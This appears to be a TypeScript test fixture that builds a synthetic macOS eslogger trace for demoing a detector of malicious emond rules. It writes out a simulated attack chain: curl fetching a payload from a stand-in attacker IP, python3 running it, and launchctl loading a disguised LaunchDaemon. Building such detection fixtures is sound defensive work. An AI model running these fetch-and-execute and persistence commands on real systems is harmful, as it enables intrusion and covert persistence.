import { TraceBuilder } from '../events/eslogger/eslogger-lines.js';

/**
 * The demo's story, as the eslogger lines a Mac would produce: emond has been running since boot;
 * the user works in Terminal; at login an attacker's emond rule (a RunCommand action planted in
 * /etc/emond.d/rules/) fires and emond starts `sh -c`, which execs curl in place, then python3 and
 * launchctl — amid ordinary activity that must not alert.
 */
export interface DemoTrace {
  lines: string[];
  /** The alerts the built-in rule must raise, as [child name, parent name], in order. */
  expected: Array<[string, string]>;
}

const ATTACKER = 'http://203.0.113.7';

export function buildDemoTrace(start: Date = new Date()): DemoTrace {
  // Each message is 3 ms after the previous one, so the story reads in order in `alerts list`.
  let tick = 0;
  const clock = () => new Date(start.getTime() + 3 * tick++).toISOString().replace('Z', '000000Z');
  const t = new TraceBuilder({ version: 9 }, clock);

  const launchd = t.existing(1, '/sbin/launchd', 0);
  const emond = t.spawn(launchd, 118, '/sbin/emond', ['/sbin/emond']);
  const loginwindow = t.spawn(launchd, 140, '/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow', ['loginwindow']);
  const terminal = t.spawn(launchd, 902, '/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', ['Terminal']);
  const zsh = t.spawn(terminal, 903, '/bin/zsh', ['-zsh']);
  t.exit(t.spawn(zsh, 904, '/usr/bin/git', ['git', 'status', '--short']));
  t.exit(t.spawn(launchd, 905, '/usr/libexec/xpcproxy', ['xpcproxy', 'com.apple.mdworker.shared']));
  // Ordinary shells started by other parents: the same names as the rule's list, no alert.
  t.exit(t.spawn(zsh, 906, '/usr/bin/curl', ['curl', '-sI', 'https://www.apple.com']));
  t.exit(t.spawn(loginwindow, 907, '/bin/sh', ['sh', '-c', 'defaults read com.apple.loginwindow']));

  // Login: emond evaluates its rules. A benign action first (not in the rule's list).
  t.exit(t.spawn(emond, 2400, '/usr/bin/logger', ['logger', '-t', 'emond', 'login event']));
  // The planted rule: sh -c fetches a payload; sh execs curl in place, so curl's parent is still emond.
  const sh = t.spawn(emond, 2401, '/bin/sh', ['sh', '-c', `exec curl -fsSL ${ATTACKER}/u.py -o /Users/Shared/.u.py`]);
  t.exit(t.exec(sh, '/usr/bin/curl', ['curl', '-fsSL', `${ATTACKER}/u.py`, '-o', '/Users/Shared/.u.py']));
  const python = t.spawn(emond, 2402, '/usr/bin/python3', ['python3', '/Users/Shared/.u.py']);
  // python3's own child is emond's grandchild: not this rule's business.
  t.exit(t.spawn(python, 2403, '/usr/bin/sw_vers', ['sw_vers']));
  t.exit(python);
  t.exit(
    t.spawn(emond, 2404, '/bin/launchctl', ['launchctl', 'load', '-w', '/Library/LaunchDaemons/com.apple.sysupdate.plist']),
  );

  t.exit(t.spawn(zsh, 908, '/bin/ls', ['ls', '-la']));
  return {
    lines: t.lines,
    expected: [
      ['sh', 'emond'],
      ['curl', 'emond'],
      ['python3', 'emond'],
      ['launchctl', 'emond'],
    ],
  };
}
